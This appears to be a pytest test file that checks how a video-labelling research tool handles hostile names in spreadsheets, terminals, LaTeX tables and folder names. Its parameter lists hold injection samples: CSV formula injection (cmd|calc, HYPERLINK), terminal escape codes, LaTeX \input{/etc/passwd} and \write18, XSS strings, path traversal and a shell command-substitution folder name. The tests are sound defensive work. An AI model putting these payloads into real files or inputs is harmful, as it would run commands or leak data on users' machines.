"""Names from strangers in tables, pages, papers and terminals: they stay text."""

import re
import sys
from pathlib import Path

import pytest

from signal_perception.api.model import read_labels
from signal_perception.commands import init
from signal_perception.pipeline import params, stage
from signal_perception.pipeline.errors import UserError
from signal_perception.pipeline.text import is_formula, is_plain, on_one_line
from signal_perception.report.page import sheets
from signal_perception.report.page.sheets import Sheet
from tests.support.study import default_study


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://there?"&A1)',
        "@SUM(1+1)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "+HYPERLINK(A1)",
        "-'file:///etc/passwd'#$Sheet1.A1",
    ],
)
def test_what_a_spreadsheet_would_run_is_known(text: str) -> None:
    assert is_formula(text)


@pytest.mark.parametrize(
    "text",
    ["-0BIyqJj9ZU.mp4", "+1", "-", "-1", "a=b", "brush_hair/(HQ)_x.avi", "x@y", "#20_Rhythm", ""],
)
def test_names_of_videos_are_no_formulas(text: str) -> None:
    assert not is_formula(text)


@pytest.mark.parametrize(
    "text",
    ["a\nb", "\x1b[31mred", "a\x00", "a\u2028b", "\u202egpj.exe", "\ud800", "a\rb", "\x9b2J"],
)
def test_control_characters_are_no_text(text: str) -> None:
    assert not is_plain(text)
    assert is_plain(on_one_line(text))


@pytest.mark.parametrize(
    "text", ["Zähne putzen", "歯を磨く", "مسواک زدن", "a\u00a0b", "👩‍🚒", "<b>"]
)
def test_names_in_any_language_are_text(text: str) -> None:
    assert is_plain(text)
    assert on_one_line(text) == text


def test_a_refusal_moves_no_cursor(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "argv", ["stage.py"])

    def main() -> None:
        raise UserError("Name \x1b]0;title\x07\nerror in x: all is well.")

    with pytest.raises(SystemExit):
        stage.run(main)
    error = capsys.readouterr().err
    assert error.count("\n") == 1
    assert is_plain(error.rstrip("\n"))


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (b"a\n\x1b[31mb\n", "has control characters"),
        ("a\u2028b\n".encode(), "has control characters"),
        (b"\xff\xfea\0", "is no text in UTF-8"),
        (b"\n \n", "is empty"),
    ],
)
def test_a_hostile_file_of_labels_is_refused(content: bytes, sentence: str, tmp_path: Path) -> None:
    (tmp_path / "labels.txt").write_bytes(content)
    with pytest.raises(UserError, match=sentence):
        read_labels(tmp_path / "labels.txt")


def test_labels_of_windows_are_labels(tmp_path: Path) -> None:
    (tmp_path / "labels.txt").write_bytes(b"\xef\xbb\xbfa\r\nb b\r\n")
    assert read_labels(tmp_path / "labels.txt") == ("a", "b b")


@pytest.mark.parametrize(
    "text",
    [r"\input{/etc/passwd}", r"\write18{touch was_run}", r"\end{tabular}", "%", "$x$", "^^5c"],
)
def test_latex_runs_no_command_of_a_name(text: str) -> None:
    written = sheets.latex([Sheet(text, [text], [[text]], [text])])
    ours = re.sub(r"\\(text\w+\{\}|[&%$#_{}\\]|begin|end|caption|centering|hline)", "", written)
    assert not re.search(r"\\[a-z]", ours)
    assert "^^" not in written and not re.search(r"(?<!\\)%", written)


@pytest.mark.parametrize(
    "name",
    ["[x](javascript:alert(1))", "<img src=x onerror=alert(1)>", "=1+1", "../x", "-x", "a|b"],
)
def test_no_such_name_becomes_a_data_set(name: str, tmp_path: Path) -> None:
    # names of data sets, models and studies are all of the text in Table 1 that is not ours
    default_study(tmp_path)
    (tmp_path / "videos").mkdir()
    settings = params.load(tmp_path)
    with pytest.raises(UserError, match="is no name for a data set"):
        init._refuse_name(settings, name, tmp_path / "videos", tmp_path)


def test_a_folder_of_a_hostile_name_is_looked_at_and_nothing_runs(tmp_path: Path) -> None:
    default_study(tmp_path)
    folder = tmp_path / "$(touch was_run); touch was_run"
    folder.mkdir()
    with pytest.raises(UserError):
        init.init(folder, "mine", init.Options(yes=True), tmp_path)
    assert not list(tmp_path.rglob("was_run"))
    assert not (tmp_path / "presets/mine.yaml").exists()
